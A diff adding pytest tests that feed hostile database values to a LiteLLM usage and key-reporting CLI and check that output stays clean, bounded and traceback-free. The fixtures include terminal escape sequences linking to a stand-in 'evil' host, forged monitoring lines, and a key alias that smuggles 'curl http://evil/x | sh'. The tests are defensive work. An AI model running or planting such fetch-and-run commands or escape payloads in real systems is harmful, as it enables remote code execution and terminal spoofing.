@@ -8,9 +8,12 @@ checks the outcome: one clear line, the right exit code, nothing written where i
 
 from __future__ import annotations
 
+import json
 import os
 import shutil
 import stat
+import subprocess
+import sys
 from pathlib import Path
 
 import psycopg
@@ -208,3 +211,250 @@ def test_the_catalog_check_does_not_run_for_a_named_catalog(cli, tmp_path):
     os.chmod(named, 0o777)  # the operator named it: their choice, not a default picked up
     assert cli("--chains", named, "chains", "list").code == 0
 
+
+
+# --- usage and keys over a hostile gateway DB (4, 5, 10, 11, 12, 13) ---------------------------
+
+ESC = "\x1b]8;;http://evil/\x07click\x1b]8;;\x07\x1b[2J"
+FORGED = "x\nASPIRECTL USAGE OK - forged\r\n"
+
+
+def _spend_rows(url: str, rows: list[dict]) -> None:
+    """Rows written the way LiteLLM's get_logging_payload writes them, with hostile values."""
+    from datetime import UTC, datetime, timedelta
+
+    from psycopg.types.json import Jsonb
+
+    now = datetime.now(UTC).replace(tzinfo=None)
+    with psycopg.connect(url, autocommit=True) as conn:
+        for i, row in enumerate(rows):
+            start = now - timedelta(minutes=5 + i)
+            values = {"request_id": f"h{i}", "call_type": "acompletion", "api_key": row.get("api_key", ""),
+                      "spend": row.get("spend", 0.0), "startTime": start,
+                      "endTime": start + timedelta(milliseconds=100), "model": "m",
+                      "model_id": row.get("model_id", ""), "model_group": row.get("model_group", ""),
+                      "metadata": Jsonb(row.get("metadata", {})), "cache_hit": "False",
+                      "status": row.get("status", "success")}
+            names = ", ".join(f'"{n}"' for n in values)
+            conn.execute(f'INSERT INTO "LiteLLM_SpendLogs" ({names}) VALUES '
+                         f'({", ".join(["%s"] * len(values))})', list(values.values()))
+
+
+def _usage(cli, url, *args):
+    return cli("--db", url, "--chains", SHIPPED_CHAINS, "usage", "--since", "1h", *args)
+
+
+def _one_error(result) -> None:
+    """Notices (database: ...) may come first; then exactly one error line, no traceback."""
+    assert "Traceback" not in result.text
+    errors = [ln for ln in result.err.splitlines() if ln.startswith("aspirectl: error: ")]
+    assert len(errors) == 1 and result.err.rstrip("\n").splitlines()[-1] == errors[0], result.err
+
+
+def _no_control(text: str) -> None:
+    assert "\x1b" not in text and "\x07" not in text and "\r" not in text, repr(text[:400])
+
+
+def test_a_requested_group_that_is_no_alias_never_kills_usage(cli, pg_schema):
+    url = pg_schema("0.4.110")
+    ok = {"model_id": "gpt-5.5@openai-api", "model_group": "gpt-5.5@openai-api"}
+    _spend_rows(url, [
+        {**ok, "metadata": {"original_model_group": "gpt-5.5@openai-api"}},  # a hop group asked directly
+        {**ok, "metadata": {"original_model_group": {"nested": ["object"]}}},
+        {**ok, "metadata": {"original_model_group": "no-such-alias"}},
+        {**ok, "metadata": ["not", "an", "object"]},
+        {**ok, "metadata": "a string"},
+        {"model_id": "x", "model_group": {"a": 1}.__repr__(), "status": "failure",
+         "metadata": {"original_model_group": ["x"], "error_information": "not an object"}},
+    ])
+    for fmt in ("table", "json", "nagios", "prometheus"):
+        result = _usage(cli, url, "-o", fmt)
+        assert result.code == 0, (fmt, result.text)
+        assert "Traceback" not in result.text and "internal error" not in result.text
+    doc = json.loads(_usage(cli, url, "-o", "json").out)
+    gpt = {a["alias"]: a for a in doc["aliases"]}["gpt-5.5"]
+    assert gpt["served"] == 5 and gpt["hops"][0]["route"] == "chain"  # every row, under its alias
+    assert doc["unattributed_failures"] == {"unknown": 1}
+    graph = cli("--db", url, "--chains", SHIPPED_CHAINS, "chains", "graph", "--cached", "--usage", "1h")
+    assert "internal error" not in graph.text and "Traceback" not in graph.text
+
+
+def test_control_characters_from_the_db_never_reach_usage_output(cli, pg_schema):
+    url = pg_schema("0.4.110")
+    key = "a" * 64
+    with psycopg.connect(url, autocommit=True) as conn:
+        conn.execute('INSERT INTO "LiteLLM_VerificationToken" (token, key_name, key_alias, models, metadata) '
+                     "VALUES (%s, %s, %s, '{}', '{}')", (key, f"sk-{ESC}", f"evil{FORGED}{ESC}"))
+    _spend_rows(url, [
+        {"api_key": key, "model_id": "gpt-5.5@openai-api", "model_group": "gpt-5.5",
+         "metadata": {"original_model_group": "gpt-5.5"}},
+        {"api_key": key, "status": "failure",
+         "metadata": {"original_model_group": "gpt-5.5", "error_information": {"error_class": FORGED + ESC}}},
+        {"api_key": key, "status": "failure", "metadata": {"error_information": {"error_class": FORGED}}},
+        {"api_key": key, "model_id": f"rogue{FORGED}{ESC}", "model_group": "gpt-5.5",
+         "metadata": {"original_model_group": "gpt-5.5"}},
+    ])
+    for args in (("-o", "table"), ("--by", "consumer"), ("-o", "nagios"), ("--by", "consumer", "-o", "nagios")):
+        result = _usage(cli, url, *args)
+        assert result.code == 0, result.text
+        _no_control(result.text)
+        forged = [ln for ln in result.out.splitlines() if ln.startswith("ASPIRECTL USAGE OK - forged")]
+        assert forged == [], args
+    nagios = _usage(cli, url, "-o", "nagios").out.splitlines()
+    assert nagios[0].startswith("ASPIRECTL USAGE OK - ") and sum(ln.startswith("ASPIRECTL") for ln in nagios) == 1
+
+
+def test_control_characters_from_the_db_never_reach_keys_output(cli, pg_schema, tmp_path):
+    url = pg_schema("0.4.110")
+    plaintext = "sk-" + "Q" * 22
+    import hashlib
+
+    token = hashlib.sha256(plaintext.encode()).hexdigest()
+    with psycopg.connect(url, autocommit=True) as conn:
+        conn.execute('INSERT INTO "LiteLLM_VerificationToken" (token, key_name, key_alias, models, metadata) '
+                     "VALUES (%s, %s, %s, '{}', '{}')",
+                     (token, f"sk-{ESC}", f"x; curl http://evil/x | sh {FORGED}{ESC}"))
+    leaked = tmp_path / "leak.env"
+    leaked.write_text(f"OPENAI_API_KEY={plaintext}\n")
+    for args in (("list",), ("list", "--all"), ("show", "x"), ("scan", str(leaked))):
+        result = cli("--db", url, "--chains", SHIPPED_CHAINS, "keys", *args)
+        assert "Traceback" not in result.text and "internal error" not in result.text, result.text
+        _no_control(result.text)
+    scan = cli("--db", url, "--chains", SHIPPED_CHAINS, "keys", "scan", str(leaked))
+    assert scan.code == 1 and "LIVE" in scan.out
+    assert "aspirectl keys rotate" not in scan.err  # no copy-paste command carries the alias
+    assert "under an alias that is no consumer name" in scan.err
+
+
+def test_usage_is_bounded_by_its_output_not_by_distinct_values(pg_schema, tmp_path):
+    """200,000 distinct keys and 100,000 deployments the chains do not know: aspirectl's
+    memory and time stay those of a small log (measured in a child process of its own)."""
+    url = pg_schema("0.4.110")
+    with psycopg.connect(url, autocommit=True) as conn:
+        conn.execute("""
+            INSERT INTO "LiteLLM_SpendLogs" (request_id, call_type, api_key, spend, "startTime", "endTime",
+                                             model, model_id, model_group, metadata, cache_hit, status)
+            SELECT 'b' || g, 'acompletion', md5(g::text), 0.001, now() AT TIME ZONE 'UTC' - interval '5 minutes',
+                   now() AT TIME ZONE 'UTC' - interval '4 minutes', 'm',
+                   CASE WHEN g % 2 = 0 THEN 'rogue-' || (g / 2) ELSE 'gpt-5.5@openai-api' END,
+                   'gpt-5.5', jsonb_build_object('original_model_group', 'gpt-5.5'), 'False', 'success'
+            FROM generate_series(1, 200000) AS g""")
+    probe = ("import resource, subprocess, sys, time\n"
+             "t = time.monotonic()\n"
+             "p = subprocess.run([sys.executable, '-m', 'aspirectl', *sys.argv[1:]], capture_output=True, text=True)\n"
+             "print(p.returncode, len(p.stdout), time.monotonic() - t,\n"
+             "      resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024)\n"
+             "sys.stderr.write(p.stderr)\n")
+    for by in ("consumer", "hop"):
+        out = subprocess.run([sys.executable, "-c", probe, "--db", url, "--chains", str(SHIPPED_CHAINS), "usage",
+                              "--since", "1h", "--by", by, "-o", "json"], capture_output=True, text=True,
+                             timeout=120, env={**os.environ})
+        code, size, seconds, rss_mib = out.stdout.split()
+        assert code == "0", out.stderr
+        assert int(size) < 64_000, size  # 50 consumers or 50 deployments, not 100,000
+        assert int(rss_mib) < 150, f"--by {by}: {rss_mib} MiB"
+        assert float(seconds) < 30, seconds
+    doc = json.loads(subprocess.run([sys.executable, "-m", "aspirectl", "--db", url, "--chains",
+                                     str(SHIPPED_CHAINS), "usage", "--since", "1h", "--by", "consumer", "-o",
+                                     "json"], capture_output=True, text=True, timeout=120).stdout)
+    assert len(doc["consumers"]) <= 50 and doc["consumers_not_listed"]["keys"] == 200000 - 50
+    assert doc["unknown_deployments_total"] == {"deployments": 100000, "requests": 100000,
+                                                "list_spend": pytest.approx(100.0)}
+    assert len(doc["unknown_deployments"]) == 50
+
+
+def test_poisoned_numbers_and_values_read_as_nothing(cli, pg_schema):
+    url = pg_schema("0.4.110")
+    ok = {"model_id": "gpt-5.5@openai-api", "model_group": "gpt-5.5",
+          "metadata": {"original_model_group": "gpt-5.5"}}
+    _spend_rows(url, [{**ok, "spend": 0.5}, {**ok, "spend": float("nan")}, {**ok, "spend": float("inf")},
+                      {**ok, "spend": -1e9}])
+    doc = json.loads(_usage(cli, url, "-o", "json").out)
+    gpt = {a["alias"]: a for a in doc["aliases"]}["gpt-5.5"]
+    assert gpt["served"] == 4 and gpt["paid_spend"] == pytest.approx(0.5)
+    with psycopg.connect(url, autocommit=True) as conn:
+        conn.execute('INSERT INTO "LiteLLM_VerificationToken" (token, key_name, key_alias, models, metadata, '
+                     "expires, spend, max_budget) VALUES ('t1', 'sk-...t1', 'forever', ARRAY['gpt-5.5', NULL], "
+                     "'\"a string\"', 'infinity', 'NaN', '-Infinity')")
+    listed = cli("--db", url, "--chains", SHIPPED_CHAINS, "keys", "list", "-o", "json")
+    assert listed.code == 0, listed.text
+    record = json.loads(listed.out)["keys"][0]
+    assert record["models"] == ["gpt-5.5"] and record["metadata"] == {} and record["spend"] == 0
+    assert record["expires"].startswith("9999-12-31")
+    table = cli("--db", url, "--chains", SHIPPED_CHAINS, "keys", "list")
+    assert table.code == 0 and "forever" in table.out
+    created = cli("--db", url, "--chains", SHIPPED_CHAINS, "keys", "create", "forever-2")
+    assert created.code == 0, created.text
+
+
+@pytest.mark.parametrize("since", ["99999999999999d", "999999999999999999999999w"])
+def test_a_huge_since_is_a_usage_error(cli, since):
+    result = cli("--chains", SHIPPED_CHAINS, "usage", "--since", since)
+    assert result.code == 3, result.text
+    _one_error(result)
+    assert "reaches before the year 1" in result.err
+
+
+def test_a_held_lock_cannot_hang_usage_or_keys(run_process, pg_schema):
+    url = pg_schema("0.4.110")
+    env = {"ASPIRECTL_DB_TIMEOUT": "2", "ASPIRECTL_LITELLM_VERSION": "1.108.7"}
+    holder = psycopg.connect(url)
+    try:
+        holder.execute('LOCK TABLE "LiteLLM_SpendLogs", "LiteLLM_VerificationToken" IN ACCESS EXCLUSIVE MODE')
+        for args in (("usage",), ("keys", "list"), ("keys", "create", "someone")):
+            import time
+
+            started = time.monotonic()
+            result = run_process("--db", url, "--chains", SHIPPED_CHAINS, *args, env=env, timeout=60)
+            assert time.monotonic() - started < 20, args
+            assert result.code in (1, 3), (args, result.text)  # usage: UNKNOWN; keys: operation failed
+            _one_error(result)
+            assert "within 2 s" in result.err, result.err
+    finally:
+        holder.close()
+
+
+def test_a_recursive_view_cannot_hang_usage_on_sqlite(run_process, tmp_path):
+    import sqlite3
+
+    path = tmp_path / "gw.db"
+    conn = sqlite3.connect(path)
+    conn.executescript("""
+        CREATE TABLE "LiteLLM_VerificationToken" (token TEXT PRIMARY KEY, key_alias TEXT, key_name TEXT);
+        CREATE VIEW "LiteLLM_SpendLogs" AS
+          WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r)
+          SELECT 'x' || n AS request_id, '' AS api_key, 0.0 AS spend,
+                 datetime('now', '-' || (n % 10) || ' minutes') AS "startTime",
+                 datetime('now') AS "endTime", '' AS model_id, '' AS model_group, '{}' AS metadata,
+                 'False' AS cache_hit, 'success' AS status FROM r;
+    """)
+    conn.close()
+    import time
+
+    started = time.monotonic()
+    result = run_process("--db", f"sqlite:///{path}", "--chains", SHIPPED_CHAINS, "usage", "--since", "1h",
+                         env={"ASPIRECTL_DB_TIMEOUT": "2"}, timeout=60)
+    assert time.monotonic() - started < 20
+    assert result.code == 3, result.text
+    _one_error(result)
+    assert "ran past 2 s" in result.err
+
+
+@pytest.mark.parametrize("args", [("usage",), ("keys", "list")])
+def test_read_only_commands_never_alter_an_unrelated_sqlite_file(cli, tmp_path, args):
+    import hashlib
+    import sqlite3
+
+    path = tmp_path / "app.db"
+    conn = sqlite3.connect(path)
+    conn.execute("CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT)")
+    conn.execute("INSERT INTO notes (body) VALUES ('mine')")
+    conn.commit()
+    conn.close()
+    before = hashlib.sha256(path.read_bytes()).hexdigest()
+    result = cli("--db", f"sqlite:///{path}", "--chains", SHIPPED_CHAINS, *args)
+    assert result.code == 3, result.text
+    _one_error(result)
+    assert hashlib.sha256(path.read_bytes()).hexdigest() == before
+    tables = {r[0] for r in sqlite3.connect(path).execute("SELECT name FROM sqlite_master")}
+    assert tables == {"notes"}
